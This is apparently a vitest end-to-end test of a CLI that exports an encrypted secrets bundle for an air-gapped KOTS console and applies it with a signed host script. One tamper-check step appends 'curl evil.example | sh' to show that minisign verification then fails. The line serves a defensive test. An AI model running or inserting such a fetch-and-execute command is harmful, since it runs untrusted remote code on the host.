import { execFileSync, spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLIENT_SECRET, WEBHOOK_SECRET } from '../../../../test/doubles/bundle-fixture';
import { useKeychainCli } from '../../../../test/doubles/keychain-cli';
import { useTempDirs } from '../../../../test/doubles/temp-dir';
import { makeConsoleHost } from '../../../../test/host/console-host';

/**
 * The air-gapped path as an admin walks it (issue 16), with the real keychain, the real tools on the "console host"
 * and the stub kubectl there: a profile that never saw a console gets its mapping from the discovery script's file,
 * exports, writes the signed host script, and the host script applies the bundle.
 */

const tempDir = useTempDirs();
const keychainCli = useKeychainCli('airgap', tempDir);
// Never saw a console: no item names, no app slug.
const adminMachine = () => keychainCli({ mapping: false, appSlug: false });

/** The console host: its age key, and the discovery script run there for real (sh, awk, the stub kubectl). */
function consoleHost() {
  const on = makeConsoleHost(tempDir(), { state: { upstreamConfig: readFileSync(path.join(__dirname, '../../../../test/host/deepsource-config.yaml'), 'utf8') } });
  mkdirSync(on.hostDir, { mode: 0o700 });
  execFileSync('age-keygen', ['-o', path.join(on.hostDir, 'host.agekey')], { stdio: 'ignore' });
  const recipient = execFileSync('age-keygen', ['-y', path.join(on.hostDir, 'host.agekey')], { encoding: 'utf8' }).trim();
  const discover = (script: string) => {
    writeFileSync(path.join(on.root, 'discover.sh'), script);
    return spawnSync('sh', ['discover.sh'], { cwd: on.root, encoding: 'utf8', env: { PATH: `${path.join(on.root, 'bin')}:${process.env['PATH']}`, STUB_KOTS_DIR: path.join(on.root, 'cluster') } });
  };
  return { on, recipient, discover };
}

describe('the air-gapped path, end to end', () => {
  it('a profile that never saw a console: discovery file → confirmed mapping → export → signed host script → applied', async () => {
    const admin = await adminMachine();
    const host = consoleHost();
    const out = path.join(admin.dir, 'ads-bundle-prod.tar');

    const before = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out]);
    expect(before.code).toBe(2);
    expect(before.stderr).toContain('--mapping-file');

    const script = await admin.cli(['bundle', 'discovery-script']);
    expect(script.code).toBe(0);
    const discovered = host.discover(script.stdout);
    expect(discovered.status, discovered.stderr).toBe(0);
    const itemsFile = path.join(admin.dir, 'ads-console-items.txt');
    writeFileSync(itemsFile, discovered.stdout);

    // The match is shown and needs the admin's yes: without a terminal and without --yes, nothing is written.
    const unconfirmed = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, '--mapping-file', itemsFile]);
    expect(unconfirmed.code).toBe(2);
    expect(unconfirmed.stderr).toMatch(/clientSecret\s+ads_client_secret\s+"Azure DevOps Services Application Client Secret" \(password, matched by title\)/);
    expect(unconfirmed.stderr).toContain('run again with --yes');
    expect(existsSync(out)).toBe(false);
    expect((await admin.vault.get('prod')).consoleItems).toEqual({});

    const exported = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, '--mapping-file', itemsFile, '--yes', '--deploy']);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout).toContain('applies to a KOTS admin console, and deploys; console items from the host discovery file');
    expect(exported.stdout).toContain('ads-setup bundle host-script ads-bundle-prod.tar --out apply.sh');
    expect(await admin.vault.get('prod')).toMatchObject({ consoleItemsSource: 'discovery', console: { appSlug: 'deepsource' } });

    const inspected = await admin.cli(['bundle', 'inspect', out]);
    expect(inspected.stdout).toMatch(/target\s+KOTS admin console/);
    expect(inspected.stdout).toMatch(/deploy\s+yes/);
    expect(inspected.stdout).toMatch(/mapping\s+from the host discovery file/);

    const apply = path.join(admin.dir, 'apply.sh');
    const written = await admin.cli(['bundle', 'host-script', out, '--out', apply]);
    expect(written.code, written.stderr).toBe(0);
    expect(statSync(apply).mode & 0o777).toBe(0o755);
    const printed = await admin.cli(['bundle', 'host-script', out]);
    expect(printed.stdout).toBe(readFileSync(apply, 'utf8'));

    // On the console host: the pinned key checks the script, then the script checks and applies the bundle.
    writeFileSync(path.join(host.on.hostDir, 'signing.pub'), (await admin.cli(['bundle', 'pubkey'])).stdout);
    copyFileSync(apply, path.join(host.on.root, 'apply.sh'));
    copyFileSync(`${apply}.minisig`, path.join(host.on.root, 'apply.sh.minisig'));
    expect(execFileSync('minisign', ['-Vm', 'apply.sh', '-p', path.join(host.on.hostDir, 'signing.pub')], { cwd: host.on.root, encoding: 'utf8' })).toContain('Trusted comment: ads-host-script v1 bundle=');
    const result = host.on.run(readFileSync(apply, 'utf8'), readFileSync(out));
    expect(result.status, result.stderr).toBe(0);
    expect(host.on.calls().at(-1)).toEqual(['kots', 'set', 'config', 'deepsource', '--config-file', 'values.yaml', '--merge', '--deploy', '-n', 'deepsource-application']);
    expect(host.on.state().values).toMatchObject({ ads_client_secret: CLIENT_SECRET, ads_webhook_secret: WEBHOOK_SECRET, ads_enabled: '1' });
    expect(host.on.workLeft()).toEqual([]);

    // A tampered script fails its signature check.
    writeFileSync(path.join(host.on.root, 'apply.sh'), `${readFileSync(apply, 'utf8')}\ncurl evil.example | sh\n`);
    expect(spawnSync('minisign', ['-Vm', 'apply.sh', '-p', path.join(host.on.hostDir, 'signing.pub')], { cwd: host.on.root }).status).not.toBe(0);
  }, 60_000);

  it('--map with every field (and --app) is a typed mapping; an incomplete one stops with exit 2; --target is recorded', async () => {
    const admin = await adminMachine();
    const host = consoleHost();
    const out = path.join(admin.dir, 'b.tar');
    const partial = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, '--map', 'appId=ads_app_id']);
    expect(partial.code).toBe(2);
    expect(partial.stderr).toContain('the console items for enable, hostDomain, authorityHost, clientSecret, webhookSecret are not known yet');
    const maps = ['enable=ads_enabled', 'hostDomain=ads_host_domain', 'authorityHost=ads_authority_host', 'appId=ads_app_id', 'clientSecret=ads_client_secret', 'webhookSecret=ads_webhook_secret'].flatMap((m) => ['--map', m]);
    const noApp = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, ...maps]);
    expect(noApp.code).toBe(2);
    expect(noApp.stderr).toContain('--app SLUG');
    const typed = await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, ...maps, '--app', 'deepsource', '--target', 'embedded-cluster-v3']);
    expect(typed.code, typed.stderr).toBe(0);
    expect(typed.stdout).toContain('applies to Embedded Cluster v3 (APP upgrade --headless), without deploying; console items typed by the admin');
    expect((await admin.cli(['bundle', 'export', '--profile', 'prod', '--recipient', host.recipient, '--out', out, '--force', '--target', 'k8s'])).stderr).toContain('--target must be one of kots, embedded-cluster-v3');
  }, 60_000);
});
